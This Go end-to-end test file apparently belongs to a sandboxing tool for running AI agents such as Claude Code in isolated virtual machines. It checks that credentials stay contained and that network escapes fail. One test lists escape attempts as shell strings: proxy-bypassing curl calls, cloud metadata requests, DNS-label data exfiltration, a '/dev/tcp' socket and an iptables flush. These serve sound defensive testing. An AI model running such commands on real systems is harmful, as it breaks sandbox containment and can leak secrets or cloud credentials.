package e2e_test

import (
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// parentProxy is a proxy of this machine that leads to one place by any name:
// the sidecars of machines do not see the names of an engine's network.
func parentProxy(t *testing.T, listen, to string) string {
	t.Helper()
	l, err := net.Listen("tcp", net.JoinHostPort(listen, "0"))
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { //nolint:gosec // of this test
		_, port, err := net.SplitHostPort(r.Host)
		if r.Method != http.MethodConnect || err != nil {
			http.Error(w, "CONNECT only", http.StatusMethodNotAllowed)
			return
		}
		far, err := net.Dial("tcp", net.JoinHostPort(to, port))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer far.Close()
		near, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer near.Close()
		_, _ = io.WriteString(near, "HTTP/1.1 200 OK\r\n\r\n")
		go func() { _, _ = io.Copy(far, near) }()
		_, _ = io.Copy(near, far)
	})}
	go s.Serve(l) //nolint:errcheck // ends with the test
	t.Cleanup(func() { _ = s.Close() })
	return "http://" + l.Addr().String()
}

// TestClaudeInAMachine runs the real Claude Code in a machine without network,
// against a fake of its API: the credential reaches the API and is nowhere else.
func TestClaudeInAMachine(t *testing.T) {
	u := newUpstream(t, "api.anthropic.com")
	h, _ := machineHome(t)
	value, word := "oauth-"+random(20), "ping-"+random(8)
	h.env = append(h.env, "E2E_CLAUDE_TOKEN="+value)
	h.bottle("claude", "backend: smolvm\nagent_provider: {template: claude, auth_token: E2E_CLAUDE_TOKEN}\negress:\n"+
		"  upstream_ca: "+u.ca+"\n  parent: {url: "+parentProxy(t, u.gateway, address(t, u.name))+"}\n  routes:\n    - host: api.anthropic.com\n")
	agent := h.agent("claude", "claude", "Answer in one word.")
	r := h.must("run", agent, "-p", word)
	if !strings.Contains(r.stdout, "pong: ") || !strings.Contains(r.stdout, word) {
		t.Fatalf("want the fake's text on standard output: %s", r)
	}
	for _, s := range u.seen() {
		if s.Authorization != "Bearer "+value {
			t.Errorf("the API saw the authorization %q on %s %s", s.Authorization, s.Method, s.Path)
		}
	}
	if u.turns() == 0 {
		t.Errorf("the API saw no turn: %+v", u.seen())
	}
	// While a turn is under way.
	turn, before := make(chan result), u.turns()
	go func() { turn <- h.run("run", agent, "-p", "think-10s") }()
	eventually(t, "the API thinks", func() bool { return u.turns() > before })
	nowhere(t, h, value)
	if r := <-turn; r.code != 0 {
		t.Errorf("the slow turn: %s", r)
	}
	for _, args := range [][]string{{"plan", "--json"}, {"ps", "--json"}, {"logs", agent}, {"logs", "--sidecar", agent}} {
		absent(t, "bb "+args[0], strings.NewReader(h.must(args...).all()), value)
	}
}

// ofTheKernel are doors of the kernel: a machine has one of its own, and only
// the fake's guest shares this one's. Where vsock leads in a real machine is not
// tested here.
var ofTheKernel = []string{"vsock stream socket", "vsock datagram socket", "io_uring", "user namespace clone", "user namespace unshare"}

// TestNothingGetsOutOfAMachine sends the probe into a machine, next to listeners
// of this one that would notice.
func TestNothingGetsOutOfAMachine(t *testing.T) {
	ear := listen(t)
	h, _ := machineHome(t)
	h.bottle("machine", "backend: smolvm\nagent_provider: {template: shell}\negress:\n  routes:\n    - host: allowed.example.com\n")
	agent, other := h.agent("prober", "machine", ""), h.agent("neighbour", "machine", "")
	h.must("apply", "-y")

	args := []string{"escape", "-dns", "unknown.example.com", "-dns", "data.allowed.example.com"}
	targets := []string{"192.0.2.1:80", "192.0.2.1:443", "192.0.2.1:53", "192.0.2.1:853", "[2001:db8::1]:443", "169.254.169.254:80", "[fd00:ec2::254]:80", "224.0.0.251:5353", "224.0.0.252:5355"}
	for _, ip := range hostAddresses(t) {
		targets = append(targets, net.JoinHostPort(ip, ear.port))
	}
	for _, target := range targets {
		args = append(args, "-tcp", target, "-udp", target)
	}
	h.must("cp", probeBinary, agent+":/home/node/probe")
	r := h.run(append([]string{"exec", agent, "--", "/home/node/probe"}, args...)...)
	all := parse(t, r.stdout)
	if r.code != 0 || len(all) < len(args)/2 {
		t.Errorf("the probe did not finish: %s", r)
	}
	answered := false
	for _, a := range all {
		if a.Out && !slices.Contains(ofTheKernel, strings.TrimSpace(a.Attempt+" "+a.Target)) {
			t.Errorf("got out: %s %s: %s", a.Attempt, a.Target, a.Detail)
		}
		answered = answered || strings.HasPrefix(a.Attempt, "dns udp 127.0.0.53") && a.Detail == "rcode 3"
	}
	if !answered {
		t.Error("an unknown name is not answered with NXDOMAIN")
	}
	if heard := ear.heard(); len(heard) > 0 {
		t.Errorf("this host was reached: %v", heard)
	}

	// What a shell would try, past its own proxy variables too.
	b := bottle{t, h, agent}
	for what, script := range map[string]string{
		"E1 no proxy":          "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -fsS --max-time 5 https://denied.example.com/",
		"E1 noproxy":           "curl -fsS --noproxy '*' --max-time 5 http://192.0.2.1/",
		"E1 connect-to":        "curl -fsS --noproxy '*' --connect-to ::192.0.2.1:443 --max-time 5 https://allowed.example.com/",
		"E2 IPv6":              "curl -fsS --noproxy '*' --max-time 5 'http://[2001:db8::1]/'",
		"E3 metadata":          "curl -fsS --max-time 5 http://169.254.169.254/latest/",
		"E3 metadata name":     "curl -fsS --max-time 5 http://metadata.google.internal/",
		"E3 host.docker":       "getent hosts host.docker.internal",
		"E4 the host, proxied": "curl -fsS --max-time 5 http://127.0.0.1:" + ear.port + "/",
		"E4 its loopback":      "curl -fsS --noproxy '*' --max-time 5 http://127.0.0.1:" + ear.port + "/",
		"E5 own interface":     "ip link set lo down || ip addr add 192.0.2.9/24 dev lo || iptables -F",
		"E6 ping":              "ping -c1 -W2 192.0.2.1",
		"A1 labels":            "getent hosts c2VjcmV0.allowed.example.com",
		"A2 over tcp":          "exec 3<>/dev/tcp/192.0.2.1/53",
	} {
		if r := b.shell("bash -c " + quote(script)); r.code == 0 {
			t.Errorf("%s: %s", what, r)
		}
	}
	if heard := ear.heard(); len(heard) > 0 {
		t.Errorf("this host was reached: %v", heard)
	}
	// The neighbour's door and directory, and bb's own, are not in the machine.
	state := h.dir + "/state"
	if got := b.must("ls -d " + state + " /run/bb/ctl /var/lib/bb/ca 2>/dev/null; find / -xdev -type s 2>/dev/null | sort"); strings.Contains(got, h.dir) || strings.Contains(got, "ctl") || strings.Count(got, "\n") > 1 {
		t.Errorf("sockets and directories in a machine:\n%s", got)
	}
	if _, err := os.Stat(state); err != nil {
		t.Fatal(err)
	}
	_ = other
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// TestFilesOutOfAMachine: no image is made of a machine, and what bb says to do
// instead works; of one that is off nothing is read, and bb says so.
func TestFilesOutOfAMachine(t *testing.T) {
	h, _ := machineHome(t)
	h.bottle("machine", "backend: smolvm\nagent_provider: {template: shell}\n")
	agent := h.agent("made", "machine", "")
	h.must("apply", "-y")
	h.must("exec", agent, "--", "sh", "-c", "mkdir -p ~/deep && echo work > ~/deep/er && echo more > ~/workspace/notes")
	h.fails("commit", agent).says(t, "smolvm cannot make an image of a bottle (bb cp "+agent+":~/. DIR carries its files out into a directory that exists)")
	out := t.TempDir()
	h.must("cp", agent+":~/.", out)
	for name, want := range map[string]string{"deep/er": "work\n", "workspace/notes": "more\n"} {
		if b, err := os.ReadFile(filepath.Join(out, name)); err != nil || string(b) != want {
			t.Errorf("%s: %q, %v", name, b, err)
		}
	}
	h.must("stop", agent)
	h.fails("cp", agent+":~/.", out).says(t, agent+" does not run, and smolvm reads no bottle that does not (bb start --resume "+agent+" brings it back, and bb apply "+agent+")")
	h.must("apply", "-y")
	h.must("cp", agent+":notes", out)
}
